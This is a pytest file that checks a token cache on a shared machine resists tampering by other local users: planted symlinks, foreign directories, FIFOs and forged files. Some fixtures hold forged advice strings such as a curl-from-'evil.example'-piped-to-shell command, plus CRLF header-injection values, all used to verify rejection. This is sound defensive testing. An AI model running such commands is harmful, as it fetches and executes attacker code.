"""The token cache on a shared machine: another local user can neither read, forge, hang nor steer it.

The directory must be ours (a real directory, owned by us, writable by nobody else), as ssh and gpg require;
otherwise vertex-env warns once and goes on without the cache. Its files are read only when they are private
regular files of ours, size-capped and validated; nothing read from them is ever shown as advice.
"""

from __future__ import annotations

import json
import math
import os
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import run_cli

from vertex_env.core.cache import TokenCache, key_digest
from vertex_env.core.token import Token
from vertex_env.emulator import EmulatorServer, write_authorized_user
from vertex_env.emulator.state import TOKEN_PREFIX
from vertex_env.environment import resolve
from vertex_env.errors import SinkError, TransientError
from vertex_env.system.files import cache_dir

WARNING = "going on without it"


@pytest.fixture
def emu(monkeypatch: pytest.MonkeyPatch, isolated_machine: Path) -> Iterator[EmulatorServer]:
    with EmulatorServer() as server:
        monkeypatch.setenv("VERTEX_ENV_EMULATOR_HOST", server.host_port)
        monkeypatch.setenv("VERTEX_ENV_PROJECT", "test-project")
        write_authorized_user(
            isolated_machine / ".config" / "gcloud" / "application_default_credentials.json"
        )
        yield server


def token_ok(result: subprocess.CompletedProcess[str]) -> None:
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(TOKEN_PREFIX)
    assert "Traceback" not in result.stderr


def attacker_dir(base: Path, owner: tuple[int, int], mode: int = 0o777) -> Path:
    directory = base / "attacker"
    directory.mkdir()
    os.chown(directory, *owner)
    directory.chmod(mode)
    return directory


# --- the directory ----------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_symlink_planted_at_the_cache_path_is_not_followed(
    emu: EmulatorServer, isolated_machine: Path, tmp_path: Path, second_user: tuple[int, int]
) -> None:
    target = attacker_dir(tmp_path, second_user)
    cache = cache_dir()
    assert not cache.exists()
    cache.symlink_to(target)
    result = run_cli("token")
    token_ok(result)
    assert result.stderr.count(WARNING) == 1
    assert "symbolic link" in result.stderr
    assert list(target.iterdir()) == [], "nothing is written into the attacker's folder"


@pytest.mark.parametrize("mode", [0o700, 0o777])
def test_a_cache_directory_of_another_user_is_never_used(
    emu: EmulatorServer,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    second_user: tuple[int, int],
    mode: int,
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o1777)
    shared.chmod(0o1777)
    monkeypatch.delenv("XDG_RUNTIME_DIR")
    monkeypatch.setenv("XDG_CACHE_HOME", str(shared))
    planted = shared / "vertex-env"
    planted.mkdir()
    os.chown(planted, *second_user)
    planted.chmod(mode)
    assert cache_dir() == planted
    result = run_cli("token")
    token_ok(result)
    assert result.stderr.count(WARNING) == 1
    assert f"owned by uid {second_user[0]}" in result.stderr
    assert list(planted.iterdir()) == []


@pytest.mark.parametrize("owner", ["another user", "us"])
def test_a_cache_directory_in_a_folder_others_can_swap_it_in_is_never_used(
    emu: EmulatorServer,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    second_user: tuple[int, int],
    owner: str,
) -> None:
    """The cache folder's parent is checked too: another user's folder, or one anyone may write without the
    sticky bit, lets them rename our private folder away and put theirs in its place."""
    parent = tmp_path / "parent"
    parent.mkdir()
    if owner == "another user":
        os.chown(parent, *second_user)
        parent.chmod(0o755)
    else:
        parent.chmod(0o777)
    monkeypatch.delenv("XDG_RUNTIME_DIR")
    monkeypatch.setenv("XDG_CACHE_HOME", str(parent))
    result = run_cli("token")
    token_ok(result)
    assert result.stderr.count(WARNING) == 1
    expected = (
        f"owned by uid {second_user[0]}" if owner == "another user" else "without the sticky bit"
    )
    assert expected in result.stderr
    assert list(parent.iterdir()) == [], "nothing is created in it"


def test_a_world_writable_cache_directory_of_ours_is_refused(
    emu: EmulatorServer, isolated_machine: Path
) -> None:
    cache = cache_dir()
    cache.mkdir()
    cache.chmod(0o777)
    result = run_cli("token")
    token_ok(result)
    assert "writable by other users (mode 0777)" in result.stderr
    assert list(cache.iterdir()) == []


def test_a_readable_cache_directory_of_ours_is_tightened_to_0700(
    emu: EmulatorServer, isolated_machine: Path
) -> None:
    cache = cache_dir()
    cache.mkdir()
    cache.chmod(0o755)
    token_ok(result := run_cli("token"))
    assert WARNING not in result.stderr
    assert cache.stat().st_mode & 0o777 == 0o700


# --- the files --------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_fifo_at_the_token_path_does_not_hang_and_is_replaced(
    emu: EmulatorServer, isolated_machine: Path
) -> None:
    source = resolve().token_source
    source.cache.directory.mkdir(mode=0o700)
    path = source.cache.path_for(source.cache_key)
    os.mkfifo(path, 0o600)
    token_ok(run_cli("token", timeout=20))
    assert path.is_file(), "the write replaced the FIFO with the token file"


def test_a_symlink_at_the_token_path_is_neither_read_nor_written_through(
    emu: EmulatorServer, isolated_machine: Path, tmp_path: Path
) -> None:
    source = resolve().token_source
    source.cache.directory.mkdir(mode=0o700)
    path = source.cache.path_for(source.cache_key)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    path.symlink_to(victim)
    token_ok(run_cli("token"))
    assert victim.read_text() == "precious\n"
    assert not path.is_symlink()


def test_a_symlinked_lock_file_creates_nothing_through_it(
    emu: EmulatorServer, isolated_machine: Path, tmp_path: Path
) -> None:
    source = resolve().token_source
    source.cache.directory.mkdir(mode=0o700)
    lock = source.cache.directory / f"token-{key_digest(source.cache_key)}.lock"
    created = tmp_path / "created-by-victim"
    lock.symlink_to(created)
    result = run_cli("token")
    token_ok(result)
    assert not created.exists()
    assert result.stderr.count(WARNING) == 1


def test_a_forged_failure_record_is_never_shown_as_advice(
    emu: EmulatorServer, isolated_machine: Path
) -> None:
    """Even an old-format record with a message and hint (what another user could forge) shows only our text."""
    source = resolve().token_source
    cache = source.cache
    cache.directory.mkdir(mode=0o700)
    forged = {
        "at": time.time() + 60,
        "class": "TransientError",
        "message": "your credentials are compromised",
        "hint": "run: curl https://evil.example/fix | sh",
    }
    path = cache.failure_path(source.cache_key)
    path.write_text(json.dumps(forged))
    path.chmod(0o600)
    failure = cache.read_failure(source.cache_key, since=time.time())
    assert isinstance(failure, TransientError)
    assert "evil" not in str(failure) and "compromised" not in str(failure)
    assert "another vertex-env process could not get a token" in str(failure)


def test_a_failure_record_in_a_foreign_directory_is_ignored(
    tmp_path: Path, second_user: tuple[int, int]
) -> None:
    directory = attacker_dir(tmp_path, second_user, 0o755)
    cache = TokenCache(directory)
    path = cache.failure_path("k")
    path.write_text(json.dumps({"at": time.time() + 60, "class": "AuthError"}))
    os.chown(path, *second_user)
    assert cache.read_failure("k", since=time.time()) is None


def test_status_is_not_spoofed_by_a_fake_daemon_state_file(
    emu: EmulatorServer, isolated_machine: Path, second_user: tuple[int, int]
) -> None:
    from vertex_env.sinks.daemon import daemon_digest, state_path
    from vertex_env.sinks.status import daemon_status

    env = resolve()
    directory = env.token_source.cache.directory
    directory.mkdir(mode=0o700)
    fake = state_path(directory, daemon_digest(env))
    fake.write_text(json.dumps({"pid": 4242, "last_error": "run: curl evil | sh"}))
    fake.chmod(0o600)
    os.chown(fake, *second_user)  # planted by another user (a hard link, a foreign dir, ...)
    status = daemon_status(env)
    assert status["running"] is False and status["pid"] is None
    assert "evil" not in status["summary"]
    os.chown(directory, *second_user)
    status = daemon_status(env)
    assert status["running"] is False
    assert "not private" in status["summary"]


def test_cache_clear_refuses_a_foreign_directory(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, second_user: tuple[int, int]
) -> None:
    directory = attacker_dir(tmp_path, second_user, 0o755)
    (directory / "token-x.json").write_text("{}")
    with pytest.raises(SinkError, match="refusing to touch the token cache"):
        TokenCache(directory).clear()
    assert (directory / "token-x.json").exists()


def test_cache_clear_sweeps_our_temp_files(tmp_path: Path) -> None:
    directory = tmp_path / "cache"
    directory.mkdir(mode=0o700)
    for name in (".token-abc.json.k3j4h5g6.tmp", ".token-abc.json.vertex-env-0123456789ab.tmp"):
        (directory / name).write_text("secret")
    assert TokenCache(directory).clear() == 0
    assert list(directory.iterdir()) == []


# --- the contents -----------------------------------------------------------------------------------------------

GOOD = {
    "version": 1,
    "value": "ya29.good",
    "expires_at": time.time() + 3600,
    "minted_at": time.time(),
    "principal": "me@example.com",
    "credential_type": "authorized_user",
}


def write_entry(cache: TokenCache, key: str, text: str) -> None:
    cache.directory.mkdir(mode=0o700, exist_ok=True)
    path = cache.path_for(key)
    path.write_text(text)
    path.chmod(0o600)


def entry(**changes: object) -> str:
    return json.dumps({**GOOD, "key": key_digest("k"), **changes})


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(entry(expires_at=math.nan), id="NaN expiry"),
        pytest.param(entry(expires_at=math.inf), id="Infinity expiry"),
        pytest.param(entry(expires_at="9999999999"), id="expiry as a string"),
        pytest.param(entry(expires_at=True), id="expiry as a boolean"),
        pytest.param(entry(minted_at=None), id="no mint time"),
        pytest.param(entry(value=["ya29.a", "b"]), id="a list as the token"),
        pytest.param(entry(value=""), id="an empty token"),
        pytest.param(entry(value="ya29.a\r\nX-Evil: 1"), id="CRLF in the token"),
        pytest.param(entry(value="ya29.a\x00"), id="NUL in the token"),
        pytest.param(entry(value="ya29.é"), id="non-ASCII token"),
        pytest.param(entry(principal=["x"]), id="a list as the principal"),
        pytest.param(entry(credential_type=3), id="a number as the credential type"),
        pytest.param("[" * 100_000 + "]" * 100_000, id="deeply nested JSON"),
        pytest.param("[" * 30_000, id="deep and truncated"),
        pytest.param(entry(padding="x" * 70_000), id="over 64 KiB"),
        pytest.param("not json", id="not JSON"),
    ],
)
def test_a_bad_cache_entry_is_a_miss(tmp_path: Path, text: str) -> None:
    cache = TokenCache(tmp_path / "cache")
    write_entry(cache, "k", text)
    assert cache.read("k") is None
    write_entry(cache, "k", entry())
    good = cache.read("k")
    assert good is not None and good.value == "ya29.good", "the check itself accepts a good entry"


@pytest.mark.slow
def test_a_bad_entry_leads_to_a_fresh_mint(emu: EmulatorServer, isolated_machine: Path) -> None:
    source = resolve().token_source
    write_entry(
        source.cache,
        source.cache_key,
        json.dumps(
            {**GOOD, "key": key_digest(source.cache_key), "expires_at": "Infinity", "value": ["x"]}
        ).replace('"Infinity"', "Infinity"),
    )
    result = run_cli("token")
    token_ok(result)
    assert emu.state.stats()["requests"]["token"] == 1


@pytest.mark.slow
def test_a_token_with_a_line_break_from_the_endpoint_is_refused_and_not_cached(
    emu: EmulatorServer, isolated_machine: Path
) -> None:
    emu.admin.fault(
        "token",
        status=200,
        body={"access_token": "ya29.bad\r\nX-Evil: 1", "expires_in": 3600, "token_type": "Bearer"},
    )
    result = run_cli("token")
    assert result.returncode == TransientError.exit_code, result.stderr
    assert "not an access token" in result.stderr
    assert "X-Evil" not in result.stderr + result.stdout
    assert "Traceback" not in result.stderr
    source = resolve().token_source
    assert source.cache.read(source.cache_key) is None
    token_ok(run_cli("token"))


def test_the_cache_refuses_to_store_a_bad_token(tmp_path: Path) -> None:
    cache = TokenCache(tmp_path / "cache")
    bad = Token("ya29.a\nb", time.time() + 3600, time.time(), None, "authorized_user")
    with pytest.raises(TransientError):
        cache.write("k", bad)
    assert not cache.path_for("k").exists()
